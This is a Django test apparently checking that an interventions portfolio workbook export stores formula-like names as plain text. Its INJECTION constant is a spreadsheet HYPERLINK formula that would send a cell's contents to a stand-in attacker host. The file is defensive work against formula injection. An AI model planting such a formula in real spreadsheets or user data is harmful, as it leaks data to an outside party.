"""The portfolio workbook writes a name typed as a formula as text (issue 11, point 6)."""

from __future__ import annotations

import io
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from tests.conftest import logged_in
from tests.interventions.factories import InterventionFactory

INJECTION = '=HYPERLINK("http://evil.example/?d="&B5,"klik")'


def test_a_name_typed_as_a_formula_is_exported_as_text(agency_staff, agency):
    InterventionFactory(name=INJECTION, short_description="+1-1", owner=agency)
    response = logged_in(agency_staff).get(reverse("interventions:export"))
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"HYPERLINK" in sheet_xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == INJECTION)
    assert row[0].data_type == "s" and row[1].value == "+1-1"
